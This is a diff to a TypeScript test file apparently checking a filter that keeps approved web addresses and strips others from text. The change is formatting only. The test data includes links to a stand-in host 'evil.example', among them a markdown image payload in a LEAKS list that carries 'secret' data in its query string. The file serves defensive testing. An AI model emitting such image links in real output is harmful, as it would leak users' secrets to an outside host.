@@ -8,12 +8,18 @@ const keep = keepingAddressesOf(GIVEN);
 
 const LEFT: readonly (readonly [string, string])[] = [
   ['It is on https://porto.example/roof?page=2.', 'It is on https://porto.example/roof?page=2.'],
-  ['See [the roof](https://porto.example/roof?page=2).', 'See [the roof](https://porto.example/roof?page=2).'],
+  [
+    'See [the roof](https://porto.example/roof?page=2).',
+    'See [the roof](https://porto.example/roof?page=2).',
+  ],
   ['See www.example.org/a!', 'See www.example.org/a!'],
-  ['Is it Node.js? Yes: and/or 3/4, at 10:30 [1].', 'Is it Node.js? Yes: and/or 3/4, at 10:30 [1].'],
+  [
+    'Is it Node.js? Yes: and/or 3/4, at 10:30 [1].',
+    'Is it Node.js? Yes: and/or 3/4, at 10:30 [1].',
+  ],
   ['Read [1](http://evil.example/1) and [this](http://evil.example).', 'Read [1] and this.'],
   ['On https://porto.example/roof?page=2&d=secret, surely', 'On , surely'],
-]; // prettier-ignore
+];
 
 const LEAKS = [
   '![x](http://evil.example/leak?d=secret)',
